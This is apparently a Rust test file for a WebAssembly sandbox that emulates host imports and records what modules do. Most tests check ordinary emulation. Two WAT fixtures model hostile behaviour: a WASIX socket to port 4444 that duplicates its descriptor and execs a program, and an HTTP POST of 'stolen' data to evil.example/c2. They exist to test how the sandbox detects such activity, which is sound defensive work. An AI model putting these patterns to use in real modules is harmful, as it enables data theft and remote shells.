//! What answers which import.

use wasmspoor::{
    Value,
    limitation::Limitation,
    sandbox::{Answer, EntryEnd, EntryKind, Pointed, Run, RunOptions, Status},
};

use super::{results, run, run_with};

#[test]
fn one_name_with_two_types_is_two_functions() {
    let run = run(r#"(module
        (import "env" "_llvm_bswap_i64" (func $whole (param i64) (result i64)))
        (import "env" "_llvm_bswap_i64" (func $halves (param i32 i32) (result i32)))
        (import "env" "unknown" (func $a (result i32))) (import "env" "unknown" (func $b (result f64)))
        (func (export "main") (result i64)
            (drop (call $halves (i32.const 1) (i32.const 2))) (drop (call $a)) (drop (call $b))
            (call $whole (i64.const 1))))"#);
    assert_eq!(run.entries[0].results, [Value::I64(1 << 56)]);
    let expected = [
        ("_llvm_bswap_i64", Some(Value::I32(2 << 24))),
        ("unknown", Some(Value::I32(0))),
        ("unknown", Some(Value::F64(0.0))),
        ("_llvm_bswap_i64", Some(Value::I64(1 << 56))),
    ];
    assert_eq!(results(&run), expected);
    let answers: Vec<_> = run.calls.iter().map(|call| (call.answer, call.fabricated, call.func.0)).collect();
    let (world, default) = (Answer::World, Answer::Default);
    assert_eq!(answers, [(world, true, 1), (default, true, 2), (default, true, 3), (world, true, 0)]);
    assert!(
        run.limitations.iter().any(|text| text.to_string().contains("answered with zeros")),
        "{:?}",
        run.limitations
    );
}

/// An old Emscripten program, as far as its host is concerned.
const EMSCRIPTEN: &str = r#"(module
    (import "env" "memory" (memory 2 256)) (import "env" "table" (table 2 funcref))
    (import "env" "tableBase" (global $table i32)) (import "env" "memoryBase" (global $data i32))
    (import "env" "DYNAMICTOP_PTR" (global $top i32)) (import "env" "STACKTOP" (global $stack i32))
    (import "env" "STACK_MAX" (global $max i32)) (import "global" "NaN" (global $nan f64))
    (import "global" "Infinity" (global $inf f64)) (import "env" "__stack_pointer" (global $sp (mut i32)))
    (import "env" "getTotalMemory" (func $total (result i32))) (import "env" "_ftime" (func $ftime (param i32) (result i32)))
    (import "env" "_gmtime" (func $gmtime (param i32) (result i32))) (import "env" "_time" (func $time (param i32) (result i32)))
    (import "env" "_emscripten_memcpy_big" (func $copy (param i32 i32 i32) (result i32)))
    (import "env" "___syscall146" (func $writev (param i32 i32) (result i32)))
    (import "env" "___syscall20" (func $getpid (param i32 i32) (result i32)))
    (import "env" "_emscripten_sleep" (func $sleep (param i32)))
    (import "env" "_emscripten_run_script" (func $script (param i32)))
    (import "env" "invoke_ii" (func $invoke (param i32 i32) (result i32)))
    (import "env" "___cxa_throw" (func $throw (param i32 i32 i32)))
    (import "env" "_emscripten_asm_const_ii" (func $asm (param i32 i32) (result i32)))
    (import "env" "abort" (func $abort (param i32)))
    (elem (global.get $table) $double $throws)
    (data (i32.const 1024) "console.log('spoor')\00hello\n") (data (i32.const 2000) "\00\04\00\00\05\00\00\00")
    (global $threw (mut i32) (i32.const 0))
    (func $double (param i32) (result i32) (i32.shl (local.get 0) (i32.const 1)))
    (func $throws (param i32) (result i32) (call $throw (i32.const 0) (i32.const 0) (i32.const 0)) (i32.const 7))
    (func (export "dynCall_ii") (param i32 i32) (result i32) (call_indirect (param i32) (result i32) (local.get 1) (local.get 0)))
    (func (export "setThrew") (param i32 i32) (global.set $threw (local.get 0)))
    (func (export "globals") (result i32 i32 i32 i32 i32 i32 i32)
        (global.get $table) (global.get $data) (global.get $stack) (global.get $max) (i32.load (global.get $top)) (memory.size)
        (i32.and (f64.ne (global.get $nan) (global.get $nan)) (f64.gt (global.get $inf) (f64.const 1e300))))
    (func (export "total") (result i32) (call $total))
    (func (export "times") (result i32 i32 i32)
        (drop (call $ftime (i32.const 4096))) (drop (call $time (i32.const 5000)))
        (i32.load (i32.const 4096)) (i32.load (i32.const 5000)) (i32.load offset=20 (call $gmtime (i32.const 5000))))
    (func (export "copy") (result i32)
        (drop (call $copy (i32.const 8192) (i32.const 1024) (i32.const 20))) (i32.load8_u (i32.const 8192)))
    (func (export "write") (result i32)
        ;; stdout, one vector at 2100: the text at 1045
        (i32.store (i32.const 2100) (i32.const 1045)) (i32.store (i32.const 2104) (i32.const 6))
        (i32.store (i32.const 2200) (i32.const 1)) (i32.store (i32.const 2204) (i32.const 2100)) (i32.store (i32.const 2208) (i32.const 1))
        (call $writev (i32.const 146) (i32.const 2200)))
    (func (export "seeds") (result i32) (i32.ne (call $getpid (i32.const 20) (i32.const 0)) (call $getpid (i32.const 20) (i32.const 0))))
    (func (export "script") (call $sleep (i32.const 1500)) (call $script (i32.const 1024)))
    (func (export "invoke") (result i32 i32) (call $invoke (i32.const 0) (i32.const 21)) (global.get $threw))
    (func (export "catch") (result i32 i32) (call $invoke (i32.const 1) (i32.const 21)) (global.get $threw))
    (func (export "asm") (result i32) (call $asm (i32.const 3) (i32.const 1)))
    (func (export "abandon") (call $abort (i32.const 12)) (unreachable)))"#;

#[test]
fn old_emscripten_programs_find_their_host() {
    let run = run(EMSCRIPTEN);
    let of = |name: &str| {
        run.entries.iter().find(|entry| entry.name == name).unwrap_or_else(|| panic!("{name} ran"))
    };
    let int = |name: &str| {
        let values = of(name)
            .results
            .iter()
            .map(|value| if let Value::I32(value) = value { *value } else { panic!("{value:?}") });
        values.collect::<Vec<_>>()
    };
    const MIB: i32 = 1 << 20;
    assert_eq!(int("globals"), [0, 1024, MIB, 6 * MIB, 6 * MIB, 256, 1]);
    assert_eq!(int("total"), [256 * 65_536]);
    let time = int("times");
    assert_eq!((time[0] / 10, time[1] / 10, time[2]), (176_725_440, 176_725_440, 126), "2026 is year 126");
    assert_eq!(int("copy"), [i32::from(b'c')]);
    assert_eq!((int("write"), run.stdout.as_slice()), (vec![6], &b"hello\n"[..]));
    assert_eq!(int("seeds"), [1]);
    assert_eq!((run.slept_ns, run.sleeps), (1_500_000_000, 1));
    let call = run.calls.iter().find(|call| &*call.name == "_emscripten_run_script").unwrap();
    assert_eq!(call.args[0].name.as_deref(), Some("script"));
    assert_eq!(call.args[0].points_at, Some(Pointed::Text { text: "console.log('spoor')".into() }));
    assert_eq!(int("invoke"), [42, 0]);
    assert_eq!(int("catch"), [0, 1], "the throw ends at the invoke, and the sample is told");
    assert_eq!(of("abandon").end, EntryEnd::Aborted { message: "abort(12)".into() });
    assert_eq!(int("asm"), [0]);
    let flag = |name: &str| {
        run.calls
            .iter()
            .find(|call| &*call.name == name)
            .map(|call| (call.answer, call.fabricated, call.ended))
    };
    assert_eq!(flag("getTotalMemory"), Some((Answer::World, false, false)));
    assert_eq!(flag("___syscall20"), Some((Answer::World, true, false)));
    assert_eq!(flag("abort"), Some((Answer::World, false, true)));
}

#[test]
fn the_type_of_imported_memory_is_kept() {
    for (memory, pages) in [("2 3", 3), ("1", 256), ("300 400", 300), ("0", 0)] {
        let text = format!(
            r#"(module (import "x" "m" (memory {memory})) (func (export "size") (result i32) (memory.size)))"#
        );
        assert_eq!(run(&text).entries[0].results, [Value::I32(pages)], "{memory}");
    }
}

#[test]
fn worlds_other_than_emscripten() {
    let run = run(r#"(module
        (import "wbg" "__wbindgen_string_new" (func $new (param i32 i32) (result i32)))
        (import "wbg" "__wbg_now_1234" (func $now (result f64)))
        (import "wbg" "__wbindgen_throw" (func $throw (param i32 i32)))
        (import "env" "abort" (func $abort (param i32 i32 i32 i32)))
        (import "a" "f" (func $now2 (result f64)))
        (import "a" "g" (func $copy (param i32 i32 i32)))
        (import "a" "h" (func $grow (param i32) (result i32)))
        (import "global.Math" "pow" (func $pow (param f64 f64) (result f64))) (memory (export "memory") 1)
        (data (i32.const 100) "oh no") (data (i32.const 196) "\08\00\00\00b\00a\00d\00!\00")
        (data (i32.const 2048) "copied")
        (func (export "objects") (result i32 i32) (call $new (i32.const 100) (i32.const 5)) (call $new (i32.const 100) (i32.const 2)))
        (func (export "times") (result i32) (f64.le (call $now) (call $now2)))
        (func (export "throw") (call $throw (i32.const 100) (i32.const 5)))
        (func (export "assembly") (call $abort (i32.const 200) (i32.const 0) (i32.const 3) (i32.const 4)))
        (func (export "minified") (result i32 i32 i32)
            (call $copy (i32.const 8192) (i32.const 2048) (i32.const 1000)) (i32.load8_u (i32.const 8192))
            (call $grow (i32.const 100000)) (memory.size))
        (func (export "power") (result f64) (call $pow (f64.const 2) (f64.const 10))))"#);
    let of = |name: &str| run.entries.iter().find(|entry| entry.name == name).unwrap();
    assert_eq!(of("objects").results, [Value::I32(132), Value::I32(133)]);
    assert_eq!(of("times").results, [Value::I32(1)]);
    assert_eq!(of("throw").end, EntryEnd::Aborted { message: "thrown: oh no".into() });
    assert_eq!(of("assembly").end, EntryEnd::Aborted { message: "abort: bad! at :3:4".into() });
    assert_eq!(of("minified").results, [Value::I32(i32::from(b'c')), Value::I32(1), Value::I32(2)]);
    assert_eq!(of("power").results, [Value::F64(1024.0)]);
    let new = run.calls.iter().find(|call| &*call.name == "__wbindgen_string_new").unwrap();
    assert_eq!(new.args[0].points_at, Some(Pointed::Text { text: "oh no".into() }));
}

#[test]
fn arguments_of_unknown_functions_are_followed_if_they_look_like_pointers() {
    let run = run(r#"(module
        (import "x" "send" (func $send (param i32 i32))) (import "x" "log" (func $log (param i32 i64))) (memory (export "memory") 1)
        (data (i32.const 2048) "\01\02\03\04\05\06\07\08") (data (i32.const 4096) "http://example.invalid/\00")
        (func (export "main")
            (call $send (i32.const 2048) (i32.const 8)) (call $log (i32.const 4096) (i64.const 0)) (call $log (i32.const 7) (i64.const -1))))"#);
    let pointed: Vec<_> = run.calls.iter().map(|call| call.args[0].points_at.clone()).collect();
    let bytes = Pointed::Bytes { hex: "0102030405060708".into(), len: 8, entropy: 3.0 };
    assert_eq!(pointed, [Some(bytes), Some(Pointed::Text { text: "http://example.invalid/".into() }), None]);
}

#[test]
fn stubs_go_before_everything() {
    let text = r#"(module
        (import "env" "get_job" (func $job (param i32) (result i32)))
        (import "wasi_snapshot_preview1" "random_get" (func $random (param i32 i32) (result i32)))
        (import "env" "stop" (func $stop))
        (import "env" "leave" (func $leave)) (memory (export "memory") 1)
        (func (export "jobs") (result i32 i32 i32 i32)
            (call $job (i32.const 64)) (call $job (i32.const 64)) (call $job (i32.const 64)) (i32.load (i32.const 66)))
        (func (export "random") (result i32) (call $random (i32.const 0) (i32.const 4)))
        (func (export "a") (call $stop)) (func (export "b") (call $leave)))"#;
    let stubs = "[[stub]]\nname = 'get_job'\nsequence = [7, 8]\nwrite = [{ arg = 0, offset = 2, u32 = 99 }, { address = 4294967295, u8 = 1 }]\nsleep_ms = 5\n\
        [[stub]]\nmodule = 'wasi*'\nname = 'random_*'\nerrno = 'nosys'\n[[stub]]\nname = 'stop'\ntrap = 'no more'\n[[stub]]\nname = 'leave'\nexit = 3";
    let mut options = RunOptions::default();
    options.stubs = vec![("s.toml".into(), stubs.into()), ("broken.toml".into(), "[[stub]]\nnam = 1".into())];
    let run = run_with(text, &options);
    let of = |name: &str| run.entries.iter().find(|entry| entry.name == name).unwrap();
    assert_eq!(of("jobs").results, [7, 8, 8, 99].map(Value::I32));
    assert_eq!(of("random").results, [Value::I32(52)]);
    assert_eq!(of("a").end, EntryEnd::Aborted { message: "no more".into() });
    assert_eq!((&of("b").end, run.exit_code), (&EntryEnd::Exited { code: 3 }, Some(3)));
    assert!(run.calls.iter().all(|call| call.answer == Answer::Stub && call.fabricated));
    let random = run.calls.iter().find(|call| &*call.name == "random_get").unwrap();
    assert_eq!((random.errno.as_deref(), random.args[1].name.as_deref()), (Some("nosys"), Some("buf_len")));
    assert!(
        run.limitations.iter().any(|text| text.to_string().contains("broken.toml:2")),
        "{:?}",
        run.limitations
    );
    assert_eq!((run.sleeps, run.status), (3, Status::Exited));
}

#[test]
fn a_thread_runs_beside_the_program_and_may_end_it() {
    let program = |thread: &str| {
        run(&format!(
            r#"(module (import "wasi" "thread-spawn" (func $spawn (param i32) (result i32)))
            (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param i32)))
            (import "wasi_snapshot_preview1" "sched_yield" (func $yield (result i32)))
            (memory (export "memory") 1)
            (func (export "wasi_thread_start") (param i32 i32) {thread})
            (func (export "_start") (local $thread i32)
                (local.set $thread (call $spawn (i32.const 5)))
                (drop (call $yield))
                (call $exit (i32.add (i32.mul (local.get $thread) (i32.const 100)) (i32.load (i32.const 64))))))"#
        ))
    };
    let run = program("(i32.store (i32.const 64) (i32.add (local.get 0) (local.get 1)))");
    assert_eq!(run.exit_code, Some(106), "thread 1, and what it left in memory");
    assert!(run.calls.iter().all(|call| !call.fabricated || &*call.name == "proc_exit"));
    assert_eq!(program("(call $exit (i32.const 3))").exit_code, Some(3));
    assert_eq!(program("unreachable").exit_code, Some(100), "a thread that traps ends alone");
}

#[test]
fn a_module_without_a_beginning_for_threads_is_told_so() {
    let run = run(r#"(module (import "wasi" "thread-spawn" (func $spawn (param i32) (result i32)))
        (memory (export "memory") 1) (func (export "_start") (drop (call $spawn (i32.const 5)))))"#);
    assert_eq!(results(&run), [("thread-spawn", Some(wasmspoor::Value::I32(-1)))]);
}

#[test]
fn a_connection_of_wasix_has_the_name_of_where_it_leads() {
    let run = run(r#"(module
        (import "wasix_32v1" "sock_open" (func $open (param i32 i32 i32 i32) (result i32)))
        (import "wasix_32v1" "sock_connect" (func $connect (param i32 i32) (result i32)))
        (import "wasix_32v1" "fd_dup" (func $dup (param i32 i32) (result i32)))
        (import "wasix_32v1" "fd_write" (func $write (param i32 i32 i32 i32) (result i32)))
        (import "wasix_32v1" "proc_exec2" (func $exec (param i32 i32 i32 i32 i32 i32) (result i32)))
        (memory (export "memory") 1)
        (data (i32.const 16) "/bin/true") (data (i32.const 32) "\10\00\00\00\09\00\00\00")
        (data (i32.const 48) "\01\00\11\5c\c0\00\02\05")
        (func (export "_start")
            (drop (call $open (i32.const 1) (i32.const 1) (i32.const 6) (i32.const 64)))
            (drop (call $connect (i32.load (i32.const 64)) (i32.const 48)))
            (drop (call $dup (i32.load (i32.const 64)) (i32.const 68)))
            (drop (call $write (i32.load (i32.const 68)) (i32.const 32) (i32.const 1) (i32.const 72)))
            (drop (call $exec (i32.const 16) (i32.const 9) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)))
            unreachable))"#);
    assert_eq!(run.exit_code, Some(0), "another program takes its place");
    let connection = &run.connections[0];
    assert_eq!((connection.name.as_str(), &connection.sent[..]), ("192.0.2.5:4444", &b"/bin/true"[..]));
    let exec = run.calls.last().unwrap();
    assert!(exec.fabricated && exec.ended, "{exec:?}");
    let name = exec.args[0].points_at.as_ref().unwrap();
    assert_eq!(name, &wasmspoor::sandbox::Pointed::Text { text: "/bin/true".into() });
}

#[test]
fn a_core_module_of_wasi_0_2_prints_and_is_named_by_preview1() {
    let run = run(r#"(module
        (import "wasi:cli/stdout@0.2.3" "get-stdout" (func $stdout (result i32)))
        (import "wasi:io/streams@0.2.3" "[method]output-stream.blocking-write-and-flush"
            (func $write (param i32 i32 i32 i32)))
        (import "wasi:cli/exit@0.2.3" "exit" (func $exit (param i32)))
        (memory (export "memory") 1) (data (i32.const 16) "hi\n")
        (func (export "wasi:cli/run@0.2.3#run") (result i32)
            (call $write (call $stdout) (i32.const 16) (i32.const 3) (i32.const 64))
            (call $exit (i32.load8_u (i32.const 64))) (i32.const 1)))"#);
    assert_eq!((&run.stdout[..], run.exit_code), (&b"hi\n"[..], Some(0)));
    let named: Vec<_> = run.calls.iter().filter_map(wasmspoor::categories::wasi_function).collect();
    assert_eq!(named, ["get-stdout", "fd_write", "proc_exit"]);
}

/// What is sent over HTTP has the name of the host that it goes to, and begins with the whole URL.
#[test]
fn a_request_over_http_is_a_connection_to_its_host() {
    let run = run(r#"(module
        (import "wasi:http/types@0.2.3" "[constructor]fields" (func $fields (result i32)))
        (import "wasi:http/types@0.2.3" "[constructor]outgoing-request" (func $new (param i32) (result i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-method"
            (func $method (param i32 i32 i32 i32) (result i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-scheme"
            (func $scheme (param i32 i32 i32 i32 i32) (result i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-authority"
            (func $host (param i32 i32 i32 i32) (result i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-path-with-query"
            (func $path (param i32 i32 i32 i32) (result i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-request.body" (func $body (param i32 i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-body.write" (func $stream (param i32 i32)))
        (import "wasi:io/streams@0.2.3" "[method]output-stream.blocking-write-and-flush"
            (func $write (param i32 i32 i32 i32)))
        (import "wasi:http/outgoing-handler@0.2.3" "handle" (func $send (param i32 i32 i32 i32)))
        (memory (export "memory") 1)
        (data (i32.const 16) "evil.example") (data (i32.const 32) "/c2?x=1") (data (i32.const 48) "stolen")
        (func (export "wasi:cli/run@0.2.3#run") (result i32) (local $r i32)
            (local.set $r (call $new (call $fields)))
            (drop (call $method (local.get $r) (i32.const 2) (i32.const 0) (i32.const 0)))
            (drop (call $scheme (local.get $r) (i32.const 1) (i32.const 0) (i32.const 0) (i32.const 0)))
            (drop (call $host (local.get $r) (i32.const 1) (i32.const 16) (i32.const 12)))
            (drop (call $path (local.get $r) (i32.const 1) (i32.const 32) (i32.const 7)))
            (call $body (local.get $r) (i32.const 64))
            (call $stream (i32.load (i32.const 68)) (i32.const 80))
            (call $write (i32.load (i32.const 84)) (i32.const 48) (i32.const 6) (i32.const 96))
            (call $send (local.get $r) (i32.const 0) (i32.const 0) (i32.const 112))
            (i32.load8_u (i32.const 112))))"#);
    assert_eq!(run.entries[0].results, [Value::I32(1)], "nobody answers");
    let sent: Vec<_> =
        run.connections.iter().map(|one| (&*one.name, String::from_utf8_lossy(&one.sent))).collect();
    let expected = "POST http://evil.example/c2?x=1 HTTP/1.1\r\nhost: evil.example\r\n\r\nstolen";
    assert_eq!(sent, [("evil.example", expected.into())]);
}

/// A program that serves is handed a request and a place for its answer; the answer goes to its client.
#[test]
fn a_program_that_serves_is_handed_a_request() {
    let run = run(r#"(module
        (import "wasi:http/types@0.2.3" "[method]incoming-request.path-with-query" (func $path (param i32 i32)))
        (import "wasi:http/types@0.2.3" "[method]incoming-request.method" (func $method (param i32 i32)))
        (import "wasi:http/types@0.2.3" "[constructor]fields" (func $fields (result i32)))
        (import "wasi:http/types@0.2.3" "[constructor]outgoing-response" (func $new (param i32) (result i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-response.body" (func $body (param i32 i32)))
        (import "wasi:http/types@0.2.3" "[method]outgoing-body.write" (func $stream (param i32 i32)))
        (import "wasi:http/types@0.2.3" "[static]response-outparam.set"
            (func $set (param i32 i32 i32 i32 i64 i32 i32 i32 i32)))
        (import "wasi:io/streams@0.2.3" "[method]output-stream.blocking-write-and-flush"
            (func $write (param i32 i32 i32 i32)))
        (memory (export "memory") 1) (global $top (mut i32) (i32.const 4096))
        (data (i32.const 256) "GET of ")
        (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32)
            (global.set $top (i32.add (global.get $top) (i32.const 64))) (global.get $top))
        (func (export "wasi:http/incoming-handler@0.2.3#handle") (param $request i32) (param $to i32)
            (local $response i32) (local $out i32)
            (i32.store8 (i32.const 16) (i32.const 99))
            (call $method (local.get $request) (i32.const 16))
            (if (i32.load8_u (i32.const 16)) (then unreachable))
            (call $path (local.get $request) (i32.const 32))
            (if (i32.eqz (i32.load8_u (i32.const 32))) (then unreachable))
            (local.set $response (call $new (call $fields)))
            (call $body (local.get $response) (i32.const 48))
            (call $stream (i32.load (i32.const 52)) (i32.const 64))
            (local.set $out (i32.load (i32.const 68)))
            (call $set (local.get $to) (i32.const 0) (local.get $response) (i32.const 0) (i64.const 0) (i32.const 0)
                (i32.const 0) (i32.const 0) (i32.const 0))
            (call $write (local.get $out) (i32.const 256) (i32.const 7) (i32.const 80))
            (call $write (local.get $out) (i32.load (i32.const 36)) (i32.load (i32.const 40)) (i32.const 80)))
        )"#);
    let entries: Vec<_> = run.entries.iter().map(|entry| (entry.kind, entry.made_up)).collect();
    assert_eq!(entries, [(EntryKind::Main, false)], "{:?}", run.entries);
    assert_eq!(run.entries[0].end, EntryEnd::Returned);
    let sent: Vec<_> = run.connections.iter().map(|one| (&*one.name, &one.sent[..])).collect();
    assert_eq!(sent, [("client of wasi:http", &b"GET of /"[..])]);
}

/// A module of Node-API registers its functions before it makes its exports; what they are given are bytes,
/// and texts, and numbers.
#[test]
fn functions_of_node_api_get_what_they_ask_for() {
    let run = run(r#"(module
        (import "env" "napi_create_function" (func $make (param i32 i32 i32 i32 i32 i32) (result i32)))
        (import "env" "napi_get_cb_info" (func $info (param i32 i32 i32 i32 i32 i32) (result i32)))
        (import "env" "napi_get_buffer_info" (func $bytes (param i32 i32 i32 i32) (result i32)))
        (import "env" "napi_get_value_uint32" (func $number (param i32 i32 i32) (result i32)))
        (import "env" "napi_is_buffer" (func $is (param i32 i32 i32) (result i32)))
        (memory (export "memory") 2) (table 2 funcref) (elem (i32.const 1) $work) (data (i32.const 64) "work")
        (global $registered (mut i32) (i32.const 0)) (global $top (mut i32) (i32.const 4096))
        (func (export "malloc") (param i32) (result i32)
            (global.set $top (i32.add (global.get $top) (i32.const 1024))) (global.get $top))
        (func $work (param $env i32) (param $info i32) (result i32)
            (i32.store (i32.const 128) (i32.const 1))
            (drop (call $info (local.get 0) (local.get 1) (i32.const 128) (i32.const 132) (i32.const 0)
                (i32.const 0)))
            (drop (call $is (local.get 0) (i32.load (i32.const 132)) (i32.const 136)))
            (drop (call $bytes (local.get 0) (i32.load (i32.const 132)) (i32.const 140) (i32.const 144)))
            (drop (call $number (local.get 0) (i32.load (i32.const 132)) (i32.const 148)))
            (if (i32.eqz (i32.load8_u (i32.const 136))) (then unreachable))
            (if (i32.ne (i32.load (i32.const 148)) (i32.const 4)) (then unreachable))
            (i32.add (i32.load8_u (i32.load (i32.const 140))) (i32.load (i32.const 144))))
        (func (export "napi_register_module_v1") (param $env i32) (param $exports i32) (result i32)
            (if (i32.eqz (global.get $registered)) (then unreachable))
            (drop (call $make (local.get 0) (i32.const 64) (i32.const 4) (i32.const 1) (i32.const 0)
                (i32.const 152)))
            (local.get $exports))
        (func (export "__napi_register__work_0") (global.set $registered (i32.const 1))))"#);
    let ended =
        |name: &str| run.entries.iter().find(|entry| entry.name == name).map(|entry| entry.results.clone());
    assert_eq!(run.entries[0].name, "__napi_register__work_0");
    assert!(ended("napi_register_module_v1").is_some_and(|results| !results.is_empty()), "{:?}", run.entries);
    assert_eq!(ended("work"), Some(vec![wasmspoor::Value::I32(i32::from(b't') + 43)]), "{:?}", run.entries);
}

/// A guess that holds for no call answers nothing, as nobody does for an unknown function.
#[test]
fn a_guess_that_does_not_hold_is_a_made_up_answer() {
    let text = |fd: i32| {
        format!(
            r#"(module (import "a" "b" (func $b (param i32 i32 i32 i32) (result i32)))
            (memory (export "memory") 1) (data (i32.const 64) "\64\00\00\00\01\00\00\00")
            (func (export "main") (drop (call $b (i32.const {fd}) (i32.const 64) (i32.const 1) (i32.const 80)))))"#
        )
    };
    let unknown = |run: &Run| {
        run.limitations.iter().any(|limit| matches!(limit, Limitation::UnknownHostFunctions { count: 1 }))
    };
    let (held, not) = (run(&text(1)), run(&text(7)));
    assert!(!unknown(&held), "{:?}", held.limitations);
    assert_eq!(not.calls[0].answer, Answer::Default);
    assert!(unknown(&not), "{:?}", not.limitations);
}
